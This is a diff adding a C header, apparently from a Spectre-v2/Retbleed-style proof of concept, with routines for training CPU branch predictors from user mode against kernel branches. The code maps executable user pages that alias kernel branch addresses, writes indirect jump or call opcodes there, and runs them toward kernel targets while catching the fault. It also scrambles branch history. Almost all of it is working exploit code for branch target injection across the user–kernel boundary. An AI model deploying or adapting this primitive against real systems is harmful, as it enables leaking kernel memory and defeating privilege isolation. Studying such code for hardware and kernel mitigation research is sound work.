@@ -1,0 +1,97 @@
+/*
+ * Training of branch predictors from user mode, for branches of the kernel.
+ *
+ * Predictors know branches by low bits of their addresses (Kocher et al., 2019). So a branch of this
+ * process at the place that agrees with a branch of the kernel in all but the uppermost bits trains
+ * the kernel's. Its target is in the kernel: the jump faults when it gets there, but the predictor
+ * has learned the target by then (Wikner and Razavi, "Retbleed", 2022).
+ */
+#ifndef TRAIN_H
+#define TRAIN_H
+
+#include <err.h>
+#include <errno.h>
+#include <stdint.h>
+#include <string.h>
+#include <sys/mman.h>
+
+#include "fault.h"
+
+enum branch_kind { INDIRECT_JUMP, INDIRECT_CALL };
+
+enum { CODE_PAGE = 4096, BRANCH_BYTES = 2 };
+
+/* Where this process has what agrees with an address of the kernel in 47 bits. */
+static inline uint8_t *user_alias(uint64_t address)
+{
+	return (uint8_t *)(address & ((1ULL << 47) - 1));
+}
+
+/*
+ * Puts an indirect branch by %rax where it trains the one that ends at a kernel address.
+ *
+ * @param last address of the kernel branch's last byte, by which predictors know it
+ * @return the branch
+ */
+static inline const uint8_t *place_branch(uint64_t last, enum branch_kind kind)
+{
+	uint8_t *branch = user_alias(last) - (BRANCH_BYTES - 1);
+
+	for (int i = 0; i < BRANCH_BYTES; i++) {
+		uint8_t *page = (uint8_t *)((uintptr_t)(branch + i) & -(uintptr_t)CODE_PAGE);
+
+		/* Several branches may lie in one page. */
+		if (mmap(page, CODE_PAGE, PROT_READ | PROT_WRITE | PROT_EXEC,
+			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0) == MAP_FAILED && errno != EEXIST)
+			err(1, "mmap %p", (void *)page);
+	}
+	branch[0] = 0xff;
+	branch[1] = kind == INDIRECT_CALL ? 0xd0 : 0xe0;
+	return branch;
+}
+
+/* Executes a placed branch to a target in the kernel. */
+static inline void train(const uint8_t *branch, uint64_t target)
+{
+	__asm__ volatile(
+		RESUME_AT_9
+		"mov %[target], %%rax\n\t"
+		"jmp *%[branch]\n\t"
+		RESUMED
+		:
+		: [branch] "r"(branch), [target] "r"(target)
+		: "rax", "memory", "cc");
+}
+
+/*
+ * Leaves another history of branches than the calls before: 64 conditional branches, taken as the
+ * bits of a value say. With a history that the processor has not seen at a branch, what it predicts
+ * does not come from what the branch did under others.
+ */
+static inline void leave_history(uint64_t bits)
+{
+	__asm__ volatile(
+		"mov $64, %%ecx\n\t"
+		"1: test $1, %[bits]\n\t"
+		"jz 2f\n\t"
+		"nop\n\t"
+		"2: shr $1, %[bits]\n\t"
+		"dec %%ecx\n\t"
+		"jnz 1b\n\t"
+		: [bits] "+r"(bits)
+		:
+		: "rcx", "cc");
+}
+
+/* Marsaglia's xorshift. */
+static inline uint64_t next_random(void)
+{
+	static uint64_t random = 88172645463325252;
+
+	random ^= random << 13;
+	random ^= random >> 7;
+	random ^= random << 17;
+	return random;
+}
+
+#endif
